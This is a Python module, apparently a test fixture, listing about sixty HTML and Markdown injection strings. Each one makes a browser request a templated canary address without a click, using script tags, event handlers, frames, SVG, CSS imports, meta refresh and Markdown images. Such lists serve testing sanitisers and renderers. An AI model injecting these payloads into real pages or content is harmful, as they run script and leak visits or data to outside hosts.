"""Sixty lines that make a browser call a canary where a page takes any of them for HTML or Markdown, without a click.

`{u}` is the address to be called, which tells the lines apart.
"""

from __future__ import annotations

ATTACKS = (
    # Images and other media that load by themselves
    '<img src="{u}">',
    "<img src={u}>",
    "<IMG SRC='{u}'>",
    '<img/src="{u}"/>',
    '<img src="x" onerror="new Image().src=\'{u}\'">',
    "<img src=x onerror=fetch('{u}')>",
    '<img srcset="{u} 1x">',
    '<img src=x srcset="{u}">',
    '<picture><source srcset="{u}"><img src=x></picture>',
    '<video src="{u}" autoplay muted></video>',
    '<video poster="{u}"></video>',
    '<video autoplay muted><source src="{u}"></video>',
    '<audio src="{u}" autoplay preload="auto"></audio>',
    '<audio preload="auto"><source src="{u}"></audio>',
    "<video src=x onerror=\"fetch('{u}')\"></video>",
    '<input type="image" src="{u}">',
    '<object data="{u}" type="image/png"></object>',
    '<embed src="{u}" type="image/png">',
    '<table background="{u}"><tr><td>a</td></tr></table>',
    '<table><tr><td background="{u}">a</td></tr></table>',
    '<body background="{u}">',
    # SVG
    '<svg><image href="{u}" width="9" height="9"/></svg>',
    '<svg><image xlink:href="{u}" width="9" height="9"/></svg>',
    "<svg onload=fetch('{u}')></svg>",
    "<svg/onload=fetch('{u}')>",
    "<svg><script>fetch('{u}')</script></svg>",
    '<svg><style>*{{background:url({u})}}</style><rect width="9" height="9"/></svg>',
    '<svg><feImage href="{u}"/><filter id="f"><feImage href="{u}"/></filter>'
    '<rect filter="url(#f)" width="9" height="9"/></svg>',
    "<svg><animate onbegin=\"fetch('{u}')\" attributeName=x dur=1s></svg>",
    # Frames
    '<iframe src="{u}"></iframe>',
    "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
    "<iframe onload=\"fetch('{u}')\"></iframe>",
    "<iframe src=\"javascript:fetch('{u}')\"></iframe>",
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    # Scripts
    '<script src="{u}"></script>',
    "<script>fetch('{u}')</script>",
    "<ScRiPt>fetch('{u}')</sCrIpT>",
    "<script>new Image().src='{u}'</script>",
    "<script>navigator.sendBeacon('{u}')</script>",
    "<script>var x=new XMLHttpRequest();x.open('GET','{u}');x.send()</script>",
    "<script>location='{u}'</script>",
    "<script>import('{u}')</script>",
    '<script type="module">import "{u}"</script>',
    # Handlers that need no hand
    "<details open ontoggle=\"fetch('{u}')\"><summary>a</summary></details>",
    "<input autofocus onfocus=\"fetch('{u}')\">",
    "<textarea autofocus onfocus=\"fetch('{u}')\"></textarea>",
    "<div tabindex=1 autofocus onfocus=\"fetch('{u}')\">a</div>",
    "<style>@keyframes k{{from{{opacity:0}}}}</style>"
    '<div style="animation:k .1s" onanimationstart="fetch(\'{u}\')">a</div>',
    "\"><img src='{u}'>",
    "'><script>fetch('{u}')</script>",
    # Style
    "<style>@import '{u}';</style>",
    "<style>@import url({u});</style>",
    '<link rel="stylesheet" href="{u}">',
    '<div style="background:url({u})">a</div>',
    '<ul style="list-style-image:url({u})"><li>a</li></ul>',
    '<p style="border:9px solid;border-image:url({u}) 9">a</p>',
    # The page itself
    '<meta http-equiv="refresh" content="0;url={u}">',
    # Markdown
    "![a]({u})",
    '![a][r]\n\n[r]: {u} "t"',
)
